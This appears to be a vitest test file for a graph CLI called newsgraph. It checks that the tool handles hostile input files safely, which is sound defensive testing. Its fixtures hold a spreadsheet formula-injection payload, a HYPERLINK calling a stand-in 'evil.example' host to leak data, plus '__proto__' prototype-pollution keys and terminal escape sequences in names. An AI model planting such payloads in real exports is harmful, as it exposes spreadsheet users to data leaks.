/**
 * Issue 18, hostile graph files and what is printed about them, through the real CLI entry: spreadsheet formulas
 * in CSV cells, keys named after Object.prototype, control characters in ids, impossible dates, names that would
 * drive the terminal, graph files that are FIFOs, devices, huge or start with a BOM.
 */
import { execFileSync } from 'node:child_process';
import { closeSync, openSync, readFileSync, truncateSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import graphml from 'graphology-graphml';
import { describe, expect, it } from 'vitest';
import { MultiDirectedGraph } from '../../src/graph/graphology.js';
import { validateGexf } from '../helpers/relaxng.js';
import { cli, csvRecords, fixtureData, type GraphData, renameNodes, tempDir, writeGraph } from './helpers.js';

const HYPERLINK = '=HYPERLINK("http://evil.example/?leak","Open")';

/** A fixture whose labels, aliases and first evidence sentences start the way formulas do. */
function formulaGraph(): GraphData {
  const data = fixtureData();
  const starts = [HYPERLINK, '+1+2', '-3+4', '@SUM(A1)', '\tTabbed', '\rReturned'];
  data.nodes.forEach((node, i) => {
    node.attributes.label = starts[i % starts.length]!;
    node.attributes.aliases = [`=alias ${i}`];
  });
  const edge = data.edges[0]!;
  const evidence = (edge.attributes.evidence as Array<{ sentence: string; start: number; end: number }>)[0]!;
  evidence.sentence = `=${evidence.sentence.slice(1)}`;
  data.nodes[0]!.attributes.x = -12.5;
  data.nodes[0]!.attributes.y = 3;
  return data;
}

describe('CSV cells that would start a formula', () => {
  it('get a leading apostrophe (OWASP), numbers stay numbers; --raw-csv writes them as they are', async () => {
    const dir = tempDir();
    const graph = writeGraph(dir, 'graph.json', formulaGraph());
    expect((await cli('export', graph, '-o', join(dir, 'safe.csv'))).code).toBe(0);
    const nodes = csvRecords(join(dir, 'safe', 'nodes.csv'));
    const labels = nodes.map((n) => n.label!);
    expect(labels).toContain(`'${HYPERLINK}`);
    for (const label of labels) expect(label).toMatch(/^'[=+\-@\t\r]/);
    for (const node of nodes) expect(node['aliases:string[]']).toMatch(/^'=alias \d+$/);
    const edges = csvRecords(join(dir, 'safe', 'edges.csv'));
    expect(edges.some((e) => e['sentences:string[]']!.startsWith("'="))).toBe(true);
    // Every text cell of both files: none starts a formula.
    for (const record of [...nodes, ...edges])
      for (const cell of Object.values(record)) expect(cell).not.toMatch(/^[=+@\t\r]/);
    expect(nodes[0]!['x:double']).toBe('-12.5');

    expect((await cli('export', graph, '-o', join(dir, 'raw.csv'), '--raw-csv')).code).toBe(0);
    const raw = csvRecords(join(dir, 'raw', 'nodes.csv')).map((n) => n.label);
    expect(raw).toContain(HYPERLINK);
  });
});

describe('keys that Object.prototype answers to', () => {
  const names = {
    'person:olaf-scholz': '__proto__',
    'state:germany': 'constructor',
    'state:france': 'hasOwnProperty',
    'state:spain': 'toString',
  };

  function protoGraph(dir: string): string {
    const data = renameNodes(fixtureData(), names);
    data.nodes.find((n) => n.key === 'constructor')!.attributes.label = 'constructor';
    data.edges[1]!.key = 'valueOf';
    return writeGraph(dir, 'proto.json', data);
  }

  it('pass validation and every command handles them: stats, query, --path, export', async () => {
    const dir = tempDir();
    const graph = protoGraph(dir);
    const stats = await cli('stats', graph, '--json');
    expect(stats.io.stderr).toBe('');
    expect(stats.code).toBe(0);
    const summary = JSON.parse(stats.io.stdout) as {
      nodes: number;
      topByDegree: Array<{ id: string }>;
      communities: { count: number };
    };
    expect(summary.nodes).toBe(13);
    expect(summary.topByDegree.map((e) => e.id)).toContain('constructor');
    expect(summary.communities.count).toBeGreaterThan(0);

    const query = await cli('query', graph, 'constructor ? ?', '--json');
    expect(query.code).toBe(0);
    const rows = JSON.parse(query.io.stdout) as Array<{ source: { id: string } }>;
    expect(rows.length).toBeGreaterThan(0);
    expect(new Set(rows.map((r) => r.source.id))).toEqual(new Set(['constructor']));

    const path = await cli('query', graph, '--path', 'Olaf Scholz', 'France', '--json');
    expect(path.code).toBe(0);
    const found = JSON.parse(path.io.stdout) as { nodes: Array<{ id: string }> };
    expect(found.nodes[0]!.id).toBe('__proto__');
    expect(found.nodes.at(-1)!.id).toBe('hasOwnProperty');

    for (const out of ['g.gexf', 'g.graphml', 'g.csv', 'g.json']) {
      const run = await cli('export', graph, '-o', join(dir, out));
      expect(run.io.stderr).not.toContain('error');
      expect(run.code).toBe(0);
    }
    const back = JSON.parse(readFileSync(join(dir, 'g.json'), 'utf8')) as GraphData;
    expect(back.nodes.map((n) => n.key)).toEqual(expect.arrayContaining(Object.values(names)));
    expect(back.edges.map((e) => e.key)).toContain('valueOf');
    expect(await validateGexf(readFileSync(join(dir, 'g.gexf'), 'utf8'))).toEqual([]);
  });
});

describe('an attribute called __proto__', () => {
  it('is refused with the place: graphology would turn it into a prototype and drop it from every output', async () => {
    const dir = tempDir();
    const file = join(dir, 'attr.json');
    // JSON.stringify cannot write an own __proto__ key from an object literal; the file is written as text.
    writeFileSync(
      file,
      JSON.stringify(fixtureData()).replace('"label":"Olaf Scholz"', '"__proto__":{"label":"x"},"label":"Olaf Scholz"'),
    );
    const run = await cli('stats', file);
    expect(run.code).toBe(1);
    expect(run.io.stderr).toBe(
      `newsgraph: ${file}: node 0 ('person:olaf-scholz'): attribute name '__proto__' is not allowed (it cannot be kept as data)\n`,
    );
  });
});

describe('control characters in keys', () => {
  it('give ids XML can carry, distinct, in GEXF (valid against the 1.3 grammar) and GraphML', async () => {
    const dir = tempDir();
    const data = renameNodes(fixtureData(), {
      'person:olaf-scholz': 'a\u0001b',
      'state:germany': 'esc\u001b[31m',
      'state:france': 'ab',
    });
    data.edges[0]!.key = 'edge\u0002one';
    const graph = writeGraph(dir, 'ctrl.json', data);
    expect((await cli('export', graph, '-o', join(dir, 'c.gexf'))).code).toBe(0);
    const gexf = readFileSync(join(dir, 'c.gexf'), 'utf8');
    expect(await validateGexf(gexf)).toEqual([]);
    expect(gexf).not.toMatch(/[\u0000-\u0008\u000B\u000C\u000E-\u001F]/);

    expect((await cli('export', graph, '-o', join(dir, 'c.graphml'))).code).toBe(0);
    const back = graphml.parse(MultiDirectedGraph, readFileSync(join(dir, 'c.graphml'), 'utf8'));
    expect(back.order).toBe(data.nodes.length);
    expect(back.size).toBe(data.edges.length);
    expect(back.hasNode('ab')).toBe(true); // an XML-safe key is kept exactly, and not merged with 'a\u0001b'
  });
});

describe('dates', () => {
  it('must be real calendar dates: 2023-02-30 is refused with the place, 2024-02-29 is fine', async () => {
    const dir = tempDir();
    const data = fixtureData();
    data.attributes.articles[0]!.published = '2023-02-30';
    const bad = await cli('stats', writeGraph(dir, 'bad.json', data));
    expect(bad.code).toBe(1);
    expect(bad.io.stderr).toContain("attributes.articles[0].published: '2023-02-30' is not a calendar date");
    data.attributes.articles[0]!.published = '2024-02-29T23:59:60Z';
    expect((await cli('stats', writeGraph(dir, 'leap.json', data))).code).toBe(0);
    data.attributes.articles[0]!.published = 'yesterday';
    expect((await cli('stats', writeGraph(dir, 'words.json', data))).io.stderr).toContain('is not an ISO 8601 date');
  });
});

describe('messages and readers', () => {
  it('escape control characters in names: one line, no raw newline or escape sequence', async () => {
    const dir = tempDir();
    const graph = writeGraph(dir, 'graph.json', fixtureData());
    writeFileSync(join(dir, 'file'), 'x');
    const out = join(dir, 'file', 'a\nb\u001b[31mred.gexf');
    const run = await cli('export', graph, '-o', out);
    expect(run.code).toBe(1);
    expect(run.io.stderr).toContain('a\\nb\\x1b[31mred.gexf');
    expect(run.io.stderr).not.toContain('\u001b');
    expect(run.io.stderr.trimEnd().split('\n')).toHaveLength(1);

    const missing = await cli('stats', join(dir, 'no\u0007such\u202e.json'));
    expect(missing.io.stderr).toContain('no\\x07such\\u202e.json: no such file');
  });

  it('refuse a FIFO graph file at once instead of waiting for a writer', async () => {
    const dir = tempDir();
    const fifo = join(dir, 'graph.json');
    execFileSync('mkfifo', [fifo]);
    const run = await cli('stats', fifo);
    expect(run.code).toBe(1);
    expect(run.io.stderr).toBe(`newsgraph: ${fifo}: not a regular file (a named pipe)\n`);
  });

  it('refuse a device and an oversized file before reading, naming the limit', async () => {
    const zero = await cli('stats', '/dev/zero');
    expect(zero.code).toBe(1);
    expect(zero.io.stderr).toBe('newsgraph: /dev/zero: not a regular file (a device)\n');

    const dir = tempDir();
    const huge = join(dir, 'huge.json');
    closeSync(openSync(huge, 'w'));
    truncateSync(huge, 600 * 1024 * 1024); // sparse: no disk space used
    const big = await cli('stats', huge);
    expect(big.code).toBe(1);
    expect(big.io.stderr).toBe(`newsgraph: ${huge}: too large: 600 MB, over the 500 MB limit\n`);
  });

  it('skip a UTF-8 BOM at the start of a graph file', async () => {
    const dir = tempDir();
    const file = join(dir, 'bom.json');
    writeFileSync(
      file,
      Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), readFileSync(writeGraph(dir, 'plain.json', fixtureData()))]),
    );
    const run = await cli('stats', file, '--json');
    expect(run.io.stderr).toBe('');
    expect((JSON.parse(run.io.stdout) as { nodes: number }).nodes).toBe(13);
  });
});
